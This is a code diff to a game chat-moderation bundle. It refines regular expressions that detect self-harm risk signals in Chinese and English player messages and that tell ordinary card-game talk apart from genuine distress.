@@ -2714,7 +2714,7 @@ frame.real	1	§\bnot ¶(just )?(with|about|over|because of) (the|this) (game|car
 
 // src/chatter/line/script-table.ts
 const ALONE = "不不个個为為么麼了了事事产產什什仑侖们們众眾伙夥伪偽佛佛俊俊修修僵僵克克冢冢冬冬冲衝净淨凄悽凌凌凫鳧出出别別刮刮制制勋勳千千卜卜卤滷即即卷卷历歷厕廁参參发發只只台臺叹嘆吃吃合合吊吊同同后後启啟呆呆周周咤吒咽咽哄哄哗譁唇唇啮齧喂喂噪噪回回团團困困在在坛壇坝壩埙壎墙牆壳殼复復大大奖獎奸奸好好妫媯姜姜娘娘娴嫻它它家家尝嘗尽盡局局岁歲峰峰巨巨布布席席干幹并並幸幸幺么床床庵庵弥彌弦弦当當录錄彩彩征徵径徑御御志志念念恤恤恶惡悫愨愈愈我我戚戚扇扇才才扎扎托托扣扣抬抬抵抵拿拿挲挲挽挽捆捆捍捍捣搗搜搜摆擺教教旋旋旗旗既既昆昆昵暱暗暗曲曲术術朱朱杆杆来來杯杯松松板板查查栗栗核核梁梁棋棋榉櫸檐簷欲欲死死毁毀汇匯汹洶沈沈没沒沩溈沾沾注注渖瀋湿溼溪溪滟灩漓漓灶灶炼煉爱愛牦犛狸狸玩玩璇璇画畫症症痴痴痹痺瘘瘻皂皂看看真真睾睪私私秋秋秘秘稆穭竖豎签籤粽粽糊糊累累纤纖线線绕繞给給绝絕绣繡绦絛绱鞝绷繃绿綠缰韁群群胄胄胸胸脏髒腭顎致致舍舍艳豔芸芸苏蘇荡蕩荫蔭药藥获獲莼蓴蓑蓑蔑蔑蕴蘊表表袅嫋裥襉证證说說谂諗谘諮谣謠谥諡谫譾谷谷赃贓赍齎赝贗赞贊赪赬这這迳逕迹跡逾逾酝醞酸酸采採里裡鉴鑑针針钜鉅钟鍾钥鑰钩鉤钫鈁钵缽钻鑽铲鏟铺鋪锈鏽锐銳锤錘锫錇锺鍾镇鎮镌鐫镎鎿镟鏇镢钁镰鐮闲閒阅閱须須颓頹颜顏飧飧饥飢馀餘馆館骂罵骍騂鲇鯰鲞鯗鳄鱷鸡雞鹇鷳鹚鷀麽麼";
-const BETWEEN = "丑_时丑 文_丑|个_中箇|于_吉于 _禁于|伙_不伙 _好伙 _藏伙 团_伙 家_伙|克_制剋|准_许准|几茶_几|凶吉_凶|出_情齣 一_齣|划_水划|别_扭彆 _着彆|制_造製|占_卜占|历日_曆|发_型髮 头_髮 理_髮 白_髮|只_小隻 _碗隻 _羊隻 _身隻 一_隻 三_隻 两_隻 船_隻 那_隻|台_风颱|后太_后 王_后 皇_后|周_年週 一_週 我_末週|坛_上罈 _子罈 _底罈 _酒罈 一_罈|复_想覆 _杂複 反_覆 回_覆 重_複|姜生_薑|家_伙傢|尝_厉嚐 _尝嚐|尽_管儘 _量儘|岳_飞岳|布摆_佈|干_一乾 _了这乾 _净乾 _就乾 _杯乾 _涉干 _燥乾 _的乾 _脆乾 若_干 饼_乾|幸_得倖 侥_倖|征_服征|念_了唸 _叨唸 _咒唸|恶_心噁|托_了託 _付託 _福託 _管託|挨_上捱 _了捱 _打捱 _骂捱|斗_转斗|松_一鬆 _了鬆 _快鬆 _手鬆 _绑鬆 一_鬆 放_鬆|板_你闆 老_闆|沾均_霑|签_名簽|系_记係 关_係 联_繫|胡_须鬍|致精_緻|舍_不捨 _在捨|苏_醒甦|表手_錶|谷_丰穀 _是穀 _物穀|赞谬_讚|郁郁_郁|采神_采|里_程里 公_里 千_里 百_里|钟_不鐘 时_鐘 看_鐘|霉_了霉 _事霉 _蛋霉 倒_霉|面_条麵 _粉麵 吃_麵 拌_麵 泡_麵|须胡_鬚";
+const BETWEEN = "丑_时丑 文_丑|个_中箇|于_吉于 _禁于|伙_不伙 _好伙 _藏伙 团_伙 家_伙|克_制剋|准_许准|几茶_几|凶吉_凶|出_情齣 一_齣|划_水划|别_扭彆 _着彆|制_造製|占_卜占|历日_曆|发_型髮 头_髮 理_髮 白_髮|只_小隻 _碗隻 _羊隻 _身隻 一_隻 三_隻 两_隻 船_隻 那_隻|台_风颱|后太_后 王_后 皇_后|周_年週 _末週 一_週|坛_上罈 _子罈 _底罈 _酒罈 一_罈|复_想覆 _杂複 反_覆 回_覆 重_複|姜生_薑|家_伙傢|尝_厉嚐 _尝嚐|尽_管儘 _量儘|岳_飞岳|布摆_佈|干_一乾 _了这乾 _净乾 _就乾 _杯乾 _涉干 _燥乾 _的乾 _脆乾 若_干 饼_乾|幸_得倖 侥_倖|征_服征|念_了唸 _咒唸|恶_心噁|托_了託 _付託 _福託 _管託|挨_上捱 _了捱 _打捱 _骂捱|斗_转斗|松_一鬆 _了鬆 _快鬆 _手鬆 _绑鬆 一_鬆 放_鬆|板_你闆 老_闆|沾均_霑|签_名簽|系_记係 关_係 联_繫|胡_须鬍|致精_緻|舍_不捨 _在捨|苏_醒甦|表手_錶|谷_丰穀 _是穀 _物穀|赞谬_讚|郁郁_郁|采神_采|里_程里 公_里 千_里 百_里|钟_不鐘 时_鐘 看_鐘|霉_了霉 _事霉 _蛋霉 倒_霉|面_条麵 _粉麵 吃_麵 拌_麵 泡_麵|须胡_鬚";
 
 // src/chatter/line/script.ts
 var tables;
@@ -18764,6 +18764,29 @@ function conceptsOf(text) {
 	return found;
 }
 
+// src/chatter/line/kin.ts
+const CLOSE2 = "(?:[爸妈爹娘爷奶姥哥姐弟妹叔姨舅婆]|(?<!主)公(?!公)|儿子|女儿|闺女|孩子|媳妇|对象|爱人|[男女]朋?友|[猫狗])";
+const CLOSE_EN = "\\b(?:mom|mum|dad|mother|father|grand?(?:ma|pa|mother|father)|gran|nana|brother|sister|husband|wife|son|daughter|(?:boy|girl)friend|bf|gf|partner|fianc[eé]e?|friend|dog|cat)\\b";
+
+// src/chatter/detection/told.ts
+const MATTERS = [
+	[
+		new RegExp(
+			`${CLOSE2}[^,.!?;:]{0,8}(?:住院|住进|手术|icu|抢救|急诊|病房|病了|生病|化疗|开刀|进了?医院)|${CLOSE_EN}[^,.!?;:]{0,16}\\b(?:hospital|icu|e\\.?r|surgery|sick|stroke|ward)\\b`
+		),
+		["sickness", "gone", "leave", "outside"]
+	],
+	[
+		/(?:[他她]|前任|[男女]朋?友|对象|老[公婆])[^,.!?;:]{0,8}(?:说|骂|嫌|怪|怨)[^,.!?;:]{0,4}我|\b(?:s?he|my ex)(?: \w+)? (?:told me|said) i\b/,
+		["gone", "leave", "live", "without", "outside", "nobody"]
+	],
+	[
+		/周一|早八|[得要去].{0,3}(?:搬砖|上班|上课|上学|开会|加班|打工|开学|考试)|\b(?:work|monday|school|shift)\b/,
+		["whenish", "notwant", "outside", "weary", "rising", "leave"]
+	]
+];
+const isOfEverybody = (text, grave) => MATTERS.some(([words, concepts]) => words.test(text) && grave.every((name) => concepts.includes(name)));
+
 // src/chatter/detection/grave.ts
 const named2 = (...names) => new Set(names.map((name) => CONCEPT_NAMES.indexOf(name)));
 const DEED2 = named2(
@@ -18914,7 +18937,11 @@ const KINDS2 = new Set([
 	"othercrisis",
 	"cue.hard"
 ]);
-const mayBeGrave = ({ text, findings }) => [...findings.keys()].some((kind) => KINDS2.has(kind)) || conceptsOf(text).some(({ concept }) => STRONG.has(concept) || DEED2.has(concept));
+const isExpressed = ({ findings }) => [...findings.keys()].some((kind) => KINDS2.has(kind));
+const graveNames = (concepts) => concepts.flatMap(
+	({ concept }) => [DEED2, STRONG, WEAK].some((set) => set.has(concept)) ? [CONCEPT_NAMES[concept] ?? ""] : []
+);
+const mayBeGrave = ({ text, findings }) => isExpressed({ findings }) || conceptsOf(text).some(({ concept }) => STRONG.has(concept) || DEED2.has(concept));
 function gravityOf(line, opinion, dying, part = false) {
 	const { text } = line;
 	const { han, words } = sizeOf(text);
@@ -18934,6 +18961,7 @@ function gravityOf(line, opinion, dying, part = false) {
 	if (HEALED.test(text) && SCAR.test(text)) needed += QUITE_SURE;
 	const concepts = conceptsOf(text);
 	if (!line.real && concepts.some(({ concept }) => MUNDANE.has(concept))) needed += MUNDANE_MARGIN;
+	if (!line.real && !line.worry && !isExpressed(line) && isOfEverybody(text, graveNames(concepts))) needed += CERTAIN;
 	const sure = opinion.crisis - needed;
 	if (sure < 0 || alien && (short || sure < CERTAIN) || !self && (short || play) && sure < QUITE_SURE || part && short && !self && !line.real)
 		return "none";
@@ -18953,16 +18981,19 @@ const FALLEN = new RegExp(`(?:${FRAMES.ROLE}|队友)(?:都|要是|也|一|要|�
 const WHAT_FOR = /活着(?:还|又|也)?(?:干嘛|干什么|干啥|做什么|(?:还)?有(?:什么|啥)用)/;
 const FEEDS = /活着(?:也|就|只|还|都)*(?:是|能|会|得|在)?[^,.!?;:]{0,4}[给喂送][^,.!?;:]{0,6}(?:牌|人头|号)/;
 const WISHED = /不想活|想死|去死|活不下去|不活了|自杀|轻生|没意思|没意义/;
-const EARNEST = /真的|每天|天天|一直|现实|好想|家里|[爸妈爹娘爷奶公婆哥姐弟妹叔姨舅]|老[公婆]|女儿|儿子|孩子|对象|[男女]朋?友|[月年楼]|昨天|\b(?:really|every ?day)\b/;
-const isOfFigure = ({ real, life, worry }, whole) => !real && !life && !worry && !EARNEST.test(whole.replace(/主公/g, "")) && (FEEDS.test(whole) || FALLEN.test(whole) && WHAT_FOR.test(whole) && !WISHED.test(whole));
+const EARNEST = new RegExp(`真的|每天|天天|一直|现实|好想|家里|${CLOSE2}|[月年楼]|昨天|\\b(?:really|every ?day)\\b`);
+const isOfFigure = ({ real, life, worry }, whole) => !real && !life && !worry && !EARNEST.test(whole) && (FEEDS.test(whole) || FALLEN.test(whole) && WHAT_FOR.test(whole) && !WISHED.test(whole));
 const OUTCRY = /^(?:我|俺|老子|人)?(?:都|快|就|简直|直接|干脆)*(?:想|要|得|可以|只能)*(?:去)?(?:上吊|跳楼|跳河|跳江|撞墙|抹脖子)(?:了|算了|去|得了|吧)*$/;
 const POOR_HAND = /[一半]张(?:[杀闪桃酒牌]|无懈|锦囊|装备|能[用打])[^,.!?;:]{0,4}[没不]|没[一半]?张(?:[杀闪桃酒牌]|无懈|能[用打]|好牌)|全是(?:[杀闪桃酒]|装备|锦囊|黑|红)|[杀闪桃]都没|摸(?:不到|的(?:都|全)?是?什么)|(?:起手|手牌|这手)[^,.!?;:]{0,4}(?:烂|差|废|没)/;
+const AT_HAND = /起手|手牌|这手|[摸抽发选]的?(?:牌|将)|这牌|手气/;
+const AT_SIGHT = /(?:看|瞅|瞄|摸|抽|翻)(?:了|到|着|完)?(?:一[眼下])?[^,.!?;:]{0,3}(?:就|都|真|直接)+想死$/;
 const IDLE = /[正刚恰幸]好|(?:[好这]?几|[两三四五]|整)?[天晚宿夜]?(?:都|又)?没(?:怎么)?(?:睡(?:过|好|着|够)?(?:个|一个)?(?:整觉|好觉|觉|踏实)?|合眼)(?!.{0,2}醒)了?|失眠|睡不(?:着|好|踏实)|(?:闭上?眼|躺下)睛?就?|[脑子袋]{2}里?(?:就|都|是|还|一直|根本)*(?:停不下来|[转想]个?不停|静不下来|糊)|\bfor no reason\b|\bdead (?:giveaway|wrong|right|sure|certain|serious|even|heat|weight|hands?|cards?|draws?|easy|last|on|end)\b|\b(?:brain|mind|head) (?:just |keeps? )*(?:won'?t (?:shut (?:up|off)|stop|quit)|spinning|racing)/g;
 const GONE = /一走了之|消失|解脱|了断|结束|睡过去|不想|想[去要]?死|\b(?:wish|wanna|want to|done|end)\b/;
 const withoutIdle = (text) => GONE.test(text) ? text : text.replace(IDLE, "");
 function isSigh(line, { kind, start, end }, { part, whole }) {
 	const { text } = line;
 	const said = part ? text : text.slice(clauseStart(text, start), clauseEnd(text, end));
+	if (!line.real && AT_HAND.test(whole) && AT_SIGHT.test(said)) return true;
 	if (kind === "means") return !line.real && OUTCRY.test(said) && POOR_HAND.test(whole);
 	if (!(part || line.game || POOR_HAND.test(whole)) || line.real || line.worry) return false;
 	const words = text.slice(start, end);
@@ -19035,12 +19066,9 @@ const onlyOthers = (line) => threatsIn(line).length > 0 && !ONESELF.test(line.te
 const threatOf = (line) => threatsIn(line).length > 0 ? THREAT : 0;
 
 // src/chatter/detection/mourning.ts
-const KIN = "(?:我?(?:奶奶?|爷爷?|爸爸?|妈妈?|外婆|外公|姥姥|姥爷|老公|老婆|孩子|儿子|女儿|哥哥?|姐姐?|弟弟?|妹妹?|猫|狗))";
+const KIN = `(?:我?(?:的|家)?${CLOSE2}{1,2})`;
 const LOST = new RegExp(
-	[
-		`${KIN}.{0,8}(?:去世|过世|离世|走了|没了|不在了|死了)|病逝|葬礼`,
-		"\\bmy (?:\\w+ )?(?:mom|mum|dad|father|mother|grand\\w+|dog|cat|friend|brother|sister|wife|husband|son|daughter)\\b.{0,20}\\b(?:passed|died|gone|dead)\\b|\\bfuneral\\b"
-	].join("|"),
+	`(?<![你您他她])${KIN}.{0,8}(?:去世|过世|离世|走了|没了|不在了|死了)|病逝|葬礼|\\bmy (?:\\w+ )?${CLOSE_EN}.{0,20}\\b(?:passed|died|gone|dead)\\b|\\bfuneral\\b`,
 	"i"
 );
 const FOLLOWS = new RegExp(
@@ -19049,12 +19077,26 @@ const FOLLOWS = new RegExp(
 		`(?:下去|去那边|到那边|去天上|去下面)(?:陪|找|见)(?:他|她|它|${KIN})`,
 		"(?:随|跟)(?:他|她|它)(?:们)?(?:而|一起|一块)?(?:去|走)(?:了|吧|算了)?(?:$|[,.!?])",
 		"下一个(?:就)?(?:该|轮到|是)我",
+		"我(?:真的?|也|就|都|自己|一个人)*(?:活不(?:下去|成)|不想(?:活|撑)|撑不下去)",
+		"\\bi (?:really |just )?(?:can'?t|cannot|don'?t want to|don'?t wanna) (?:go on|live|be here|do this any ?more)\\b",
 		"\\b(?:want(?:ed)? to|wanna|wish i could|would rather|could just|should) (?:just )?(?:be|go|join|follow)(?: with)? (?:him|her|them|it)\\b(?! (?:shopping|home|out|to|at|on))",
 		"\\b(?:join|follow) (?:him|her|them) (?:soon|too|now|up there|there)\\b|\\b(?:and )?i(?:'| a)?m next\\b"
 	].join("|"),
 	"i"
 );
 const wishesToFollow = (text, lost) => FOLLOWS.test(text) && (lost || LOST.test(text));
+
+// src/chatter/detection/parting.ts
+const UNSAVED = /(?:别|不用|不要|甭)(?:再|来|给)?(?:我)?(?:救|奶|管|给|桃)|桃[^,.!?;:]{0,4}(?:别|不用|不要)|\b(?:don'?t|do not|no need to|stop) (?:bother )?(?:sav|heal|help|peach|rescu)/;
+const WISHED2 = /我(?:是|就是|真的?|只|就|现在|好)*想死(?:了|啊)?(?=$|[,.!?;:])|\bi (?:just |really )*(?:want to|wanna) die(?=$|[,.!?;:])/;
+const BOUGHT = /(?:买|囤|攒|备|弄|搞)(?:了|到|好|够|齐)*[^,.!?;:]{0,5}(?:氦气|氮气)|(?:氦气|氮气)[^,.!?;:]{0,4}(?:买|备|到了|够|囤)|(?:^|[,.!?;:] ?|\b(?:i|i've|ive) (?:\w+ )?)(?:bought|got|ordered|have) (?:\w+ ){0,3}(?:helium|nitrogen)\b/;
+const FESTIVE = /气球|派对|生日|婚|布置|实验|飘|balloons?|party|birthday|wedding|voice|lab\b/;
+const GIVEN = /我(?:的|所有|自己|那些|这些)*(?:的)?(?:东西|物件|家当|存款)[^,.!?;:]{0,4}(?:送(?:人|出去|光|完|掉|给)|分给)|我的[^,.!?;:]{1,8}[都全]送(?:人|出去|光|完|掉)|(?:^|[,.!?;:] ?|\b(?:i|i'm|im|i am|i've|ive|been)(?: (?:been|just|already))* )(?:giv(?:e|ing|en)|gave) (?:(?:all )?(?:of )?my (?:stuff|things|belongings|possessions) away|away (?:all )?(?:of )?(?:my (?:stuff|things|belongings|possessions)|everything i own))/;
+const CLEARED = /搬|断舍离|二手|闲鱼|毕业|换季|捐|牌|装备|旧|mov(?:e|ing)|declutter|charity|donat|goodwill|minimal|garage|old\b|cards?\b|gear/;
+function isParting({ text, game, joke, real, fiction }, dying) {
+	if (joke || fiction) return false;
+	return (!dying || real) && UNSAVED.test(text) && WISHED2.test(text) || BOUGHT.test(text) && !FESTIVE.test(text) || !game && GIVEN.test(text) && !CLEARED.test(text);
+}
 
 // src/chatter/detection/urged.ts
 const NEAR3 = "(?:爸爸?|妈妈?|爹|娘|父母|爸妈|父亲|母亲|爷爷|奶奶|外公|外婆|亲戚|家里人?|家人|老公|老婆|男朋友|女朋友|男友|女友|对象|前任|前男友|前女友|我(?:的)?(?:哥|姐|弟|妹|朋友|闺蜜|兄弟)|室友|舍友|同学|同桌|班[里上]的?(?:人|同学)?|班主任|老师|导师|教练|老板|领导|上司|同事|网友|网上的?人?|邻居)";
@@ -19224,7 +19266,7 @@ function judgeCrisis(line, opinionOf, dying = false) {
 			if (mayBeGrave(passage)) score = Math.max(score, dangerOf(passage, weighed(passage.text), beside));
 		}
 	score = Math.max(score, threat);
-	if (wishesToFollow(line.text, false)) score = Math.max(score, PASSIVE);
+	if (wishesToFollow(line.text, false) || isParting(line, dying)) score = Math.max(score, PASSIVE);
 	return { level: score >= HIGH ? "high" : score >= MEDIUM ? "medium" : "none", score };
 }
 
@@ -19294,6 +19336,7 @@ __export(words_exports, {
 	PROVES_NOT: () => PROVES_NOT,
 	QUIET: () => QUIET,
 	REFUSE: () => REFUSE,
+	REGARDED: () => REGARDED,
 	ROLE_ASKED: () => ROLE_ASKED,
 	ROLE_WANTED: () => ROLE_WANTED,
 	RULE: () => RULE,
@@ -19306,6 +19349,7 @@ __export(words_exports, {
 	SUPPOSED: () => SUPPOSED2,
 	SURE: () => SURE,
 	SUSPECTED: () => SUSPECTED,
+	TAG: () => TAG,
 	TAG_EN: () => TAG_EN,
 	TAKEN_FOR: () => TAKEN_FOR,
 	TAUNT: () => TAUNT3,
@@ -19367,7 +19411,7 @@ const SURE = any(
 );
 const EVIDENCE = /(?<!还要|还要啥|还要什么|还要个啥)(?:证据|依据|凭据|把柄)|(?:给|有|讲|说)(?:我)?个(?:说法|道理|理由|解释)|就?凭(?:感觉|直觉|一张嘴)|(?:有|什么|啥)(?:根据|理由|道理)(?!也)|^(?:根据|理由|依据|证据)(?:呢|是)?|理由(?:是|呢|何在|说)|(?:哪|什么)(?:里|儿|一点|点|方面|地方).{0,4}(?:看出|看得出|像|可疑|不对|有问题|露)|怎么(?:看出|看得出|知道|判断|推|得出|发现|断定)|从何(?:得知|说起|看出)|何以见得|拿什么(?:证明|说)|证明(?:一下|给|啊|呢)|凭(?:的)?哪|有何(?:凭|证)|\b(?:evidence|proof|prove|based on (?:what|which)|what makes you|how (?:do|did|can|could|would) you (?:know|tell|figure|conclude)|on what (?:basis|grounds)|what did (?:he|she|they|seat \d+|\d+) do(?! (?:last|this|in|to|just|on))|what(?:'s| is| are) (?:your|the) (?:reasons?|reasoning|basis)|give me (?:a|one) reason)\b/;
 const WHY = /为什么|为啥|为何|为毛|凭什么|凭啥|凭毛|怎么不(?!是|吭声|说话|出声|吱声|讲话)|咋不(?!吭声|说话|出声|吱声|讲话)|(?<!打算|准备|想|想要|计划|回合|轮|轮要|刚|刚才|都)(?:干嘛(?!呢$|去|的|用)|干吗|干什么(?!呢$|的|了|过|来着|用))|何故|何以(?!见)|因为什么|(?:图|为)(?:什么|啥|个啥)|有(?:什么)?仇|(?:啥|什么|哪门子|多大)(?:的)?仇|\bwhy'?d\b|\bhow (?:do|did|could|can) (?:you|u) (?!feel|know|think|read|see|do\b)|\bwhat'?s your (?:deal|problem|issue)\b|欠(?:你|他|她|我)(?:钱|的|你|了)|招谁惹谁|(?:哪|什么时候|怎么|咋)(?:里|儿)?(?:得罪|招|惹)(?:了|过|着)?(?:你|他|她)|至于(?:吗|么|不)|犯得着|什么(?:原因|缘故|意思|情况|居心)|啥意思|何意|怎么(?:老|总|又|还|就|都|不)?(?:打|杀|砍|拆|顺|坑|搞|针对|救|帮|乐|兵|动)|怎么(?:觉得|认为|会(?:觉得|认为|怀疑|打|杀|拆|救))|这么(?:说|认为|觉得|想)\?|理由呢|几个意思|(?:咋|怎么)(?:老|总|一直|又|还|就)(?:是)?(?:跟|和|盯|追|逮|揪|冲)|咋(?:老|又|还|就)?(?:打|杀|砍|拆|顺|不救|不)|\b(?:why|y(?= (?:did|do|are|r|me|would)\b)|how come|what for|what was that(?: for)?|what did i do|what have i done|what(?:'s| is) your (?:problem|reason)|what do you mean|explain|what(?:'?s| is| was) the point|how(?:'?s| is| does| do) (?:that|this|it) (?:even )?mak(?:e|es|ing) (?:any )?sense|bc why|what gives)\b/;
-const PLAN = /(?:下[回次把]|以后|往后).{0,3}(?:还|再)(?:敢|会|要|想|[\u4e00-\u9fff](?:不|我不))|还敢(?:不敢|不|吗|么)|轮到你(?:了)?.{0,3}(?:咋|怎么)(?:打|办|玩|出)|(?:是要|是想|这是要|要|想)(?:来)?(?:杀|砍|打|弄|收|动)(?:死|掉)?我了?(?:是吧|是不是|吗|么|\?|$)|还(?:救|保|帮|护|奶)(?:不|吗|么)|(?:救还是不救|打还是不打|救不救|保不保|帮不帮|管不管)|下(?:个|一)?(?:回合|轮|圈).{0,12}[砍打杀弄搞拆顺](?:谁|哪个|几号)|(?:下(?:个|一)?(?:回合|轮|圈)|等下|待会儿?).{0,4}(?:是不是|会不会|准备|打算|要)|^(?:砍|刀|捅|顺|兵|弄|搞)(?:谁|哪个|几号|哪边)|打不打|杀不杀|砍不砍|保不保|帮不帮|动不动手|(?:弄|搞|砍|办|收拾)(?:谁|哪个|几号)$|(?:打算|准备|计划|想要?)(?:怎么|咋|打谁|杀谁|干嘛|干什么|做什么|怎样|如何|救谁|先打|对付谁|集火谁|[打杀](?:哪|几))|接下来(?:怎么|咋|打|干|要|该|你)|下(?:个|一)?(?:回合|轮|步)(?:你|我们|咱们|咱)?(?:打算|准备|怎么|要|想|会|打谁|干|去)|(?:先|该|应该|要|去|来|都|会|能|想|集火|一起)(?:打|杀|救|集火|攻击|对付|拆|砍|保|盯)(?:谁|哪个|哪位|几号)|^(?:打|杀|救|集火|拆|乐)(?:谁|哪个|几号)|集火(?:谁|哪个|几号)|怎么(?:打|办|出牌|配合|救|走|搞|玩)(?:才|啊|呢|好|$|他|[一二三四五六七八九\d]号)|(?:要不要|该不该|应不应该|能不能|可不可以|应该|是不是该|是不是要)(?:先|再|去|现在)?(?:打|杀|救|留|出|交|用|拆|跳|集火|保|帮|把|开|放|吃|弃)|(?:有|什么|啥)(?:计划|打算|策略|对策|想法|思路|主意|高见)|你(?:要|想|会)(?:打|杀|救|帮)(?:谁|哪|我吗|[一二三四五六七八九\d]+号吗)|\b(?:what(?:'s| is| are) (?:the|your|our|you)(?: \w+)? (?:plan|strategy|move|going to do|gonna do|planning)|what (?:will|should|shall|would) (?:you|we|i) do|what now|what next|who(?:m)? (?:should|do|shall|will|are|would) (?:we|i|you)(?: \w+)? (?:attack|hit|kill|target|focus|help|save|protect|go(?:ing)?|attacking|targeting)\b.*|who(?:m)? (?:to|next|first)|who should \w+|who are you (?:going|gonna|after|targeting)|(?:u|you) (?:peaching|saving|healing|helping|hitting|coming for|backing) (?:me|us|him|her|\d)|(?:ur|whats|what's) (?:the )?next move|should (?:i|we)|shall we (?:attack|hit|kill|focus|go)|any plans?|will you (?:attack|hit|help|save|protect|kill|target)|(?:will|would|gonna|going to) (?:(?:you|u) )?do (?:that|it|this) again|again next (?:turn|time|round))\b/;
+const PLAN = /(?:下[回次把]|以后|往后).{0,3}(?:还|再)(?:敢|会|要|想|[\u4e00-\u9fff](?:不|我不))|(?:^|[下先该要去来都会能想起算备好你个儿]|回合.{0,9}|刀.{0,4})(?:[打杀救砍刀捅顺兵弄搞拆乐保盯帮办]|集火|攻击|对付|收拾)(?:谁|哪[个位边]|几号)|(?<!我)打算(?!盘).{1,6}$|轮到你(?:了)?.{0,3}(?:咋|怎么)(?:打|办|玩|出)|(?:是要|是想|这是要|要|想)(?:来)?(?:杀|砍|打|弄|收|动)(?:死|掉)?我了?(?:是吧|是不是|吗|么|\?|$)|(?:下(?:个|一)?(?:回合|轮|圈)|等下|待会儿?).{0,4}(?:是不是|会不会|准备|打算|要)|([打砍帮保救管])不\1|动不动手|(?:打算|准备|计划|想要?)(?:怎么|咋|干[嘛什]|怎样|如何|先打)|接下来(?:怎么|咋|打|干|要|该|你)|下(?:个|一)?(?:回合|轮|步)(?:你|我们|咱们|咱)?(?:打算|准备|怎么|要|想|会|打谁|干|去)|怎么(?:打|办|出牌|配合|救|走|搞|玩)(?:才|啊|呢|好|$|他|[一二三四五六七八九\d]号)|(?:要不要|该不该|应不应该|能不能|可不可以|应该|是不是该|是不是要)(?:先|再|去|现在)?(?:打|杀|救|留|出|交|用|拆|跳|集火|保|帮|把|开|放|吃|弃)|(?:有|什么|啥)(?:计划|打算|策略|对策|想法|思路|主意|高见)|你(?:要|想|会)(?:打|杀|救|帮)(?:谁|哪|我吗|[一二三四五六七八九\d]+号吗)|\b(?:what(?:'s| is| are) (?:the|your|our|you)(?: \w+)? (?:plan|strategy|move|going to do|gonna do|planning)|what (?:will|should|shall|would) (?:you|we|i) do|what now|what next|what'?s the play|what (?:are )?(?:you|u) (?:gonna|going to|about to) do|who (?:are )?(?:you|u) (?:goin|going|gonna go) for|who(?:m)? (?:should|do|shall|will|are|would) (?:we|i|you)(?: \w+)? (?:attack|hit|kill|target|focus|help|save|protect|go(?:ing)?|attacking|targeting)\b.*|who(?:m)? (?:to|next|first)|who should \w+|(?:u|you) (?:peaching|saving|healing|helping|hitting|coming for|backing) (?:me|us|him|her|\d)|should (?:i|we)|any plans?|will you (?:attack|hit|help|save|protect|kill|target)|(?:will|would|gonna|going to) (?:(?:you|u) )?do (?:that|it|this) again|again next (?:turn|time|round))\b/;
 const ROLE_ASKED = any(
 	`(?:是|像)(?:不是|个|哪个)?${ROLE_ZH}(?:吗|么|吧|啊|还是|呀|$)`,
 	`是不是(?:个)?${ROLE_ZH}`,
@@ -19434,7 +19478,7 @@ const ASSERTED = /(?:没|不是).{1,10}(?:吗|么)$/;
 const IS_NOT = /不是.{1,10}的(?:吗|么)$/;
 const TAG_EN = /[, ]+(?:ok|okay|right|huh|yeah|yes|eh|lol)$/;
 const NO_PLEA = /(?:没有?|不肯?|不来|不去|未|不想|懒得|怎么不|别|不用|不要|谁让你)(?:去|来|人)?(?:救|帮|奶)|\b(?:not|n't|never|didnt|wont) (?:\w+ )?(?:help|save|heal)/;
-const SPARE = /别(?:再)?(?:给|往)?我?(?:贴|挂)我?(?:身上)?(?:乐|兵|断|闪电)|(?:你|您)(?:要是|只要|如果|若)(?:是)?(?:不|别)(?:再|去)?(?:打|杀|砍|拆|动|搞|碰|顺|乐|兵)我(?!们)|(?:别|不要|别再|不要再|勿|莫|能不能不|可不可以不|能别|停止|住手)(?:老是?|总是?|一直|都|来)?(?:打|杀|砍|拆|动|搞|碰|顺|集火|针对|乐|兵|贴|烧|欺负|弄|捅|射|a|害|坑)(?:我(?!们)|俺|咱|人家)|别(?:再)?(?:对|冲|朝)(?:着|准)?(?:我(?!们)|俺)|饶(?:了)?(?:我|命)|放(?:过|了)我|放(?:我)?一?(?:马|条生路)|轻点(?:锤|打|揍|砍)|手下留情|高抬贵手|刀下留人|留(?:我)?一?(?:条)?(?:狗)?命|\b(?:don't|dont|do not|stop|quit|please don't|no need to)(?: keep)? (?:attack|hit|kill|target|hurt|shoot|gun|slash|pick|dismantl|steal|touch|bother|focus|burn)\w*(?: (?:from|on|my))* ?(?:me|my)\b|\b(?:spare me|have mercy|mercy|let me live|leave me alone|not me)\b/;
+const SPARE = /别(?:再)?(?:给|往)?我?(?:贴|挂)我?(?:身上)?(?:乐|兵|断|闪电)|(?<![我他她])别(?:再)?往我这|(?:你|您)(?:要是|只要|如果|若)(?:是)?(?:不|别)(?:再|去)?(?:打|杀|砍|拆|动|搞|碰|顺|乐|兵)我(?!们)|(?:别|不要|别再|不要再|勿|莫|能不能不|可不可以不|能别|停止|住手)(?:老是?|总是?|一直|都|来)?(?:打|杀|砍|拆|动|搞|碰|顺|集火|针对|乐|兵|贴|烧|欺负|弄|捅|射|a|害|坑)(?:我(?!们)|俺|咱|人家)|别(?:再)?(?:对|冲|朝)(?:着|准)?(?:我(?!们)|俺)|饶(?:了)?(?:我|命)|放(?:过|了)我|放(?:我)?一?(?:马|条生路)|轻点(?:锤|打|揍|砍)|手下留情|高抬贵手|刀下留人|留(?:我)?一?(?:条)?(?:狗)?命|\b(?:don't|dont|do not|stop|quit|please don't|no need to)(?: keep)? (?:attack|hit|kill|target|hurt|shoot|gun|slash|pick|dismantl|steal|touch|bother|focus|burn)\w*(?: (?:from|on|my))* ?(?:me|my)\b|\b(?:spare me|have mercy|mercy|let me live|leave me alone|not me)\b/;
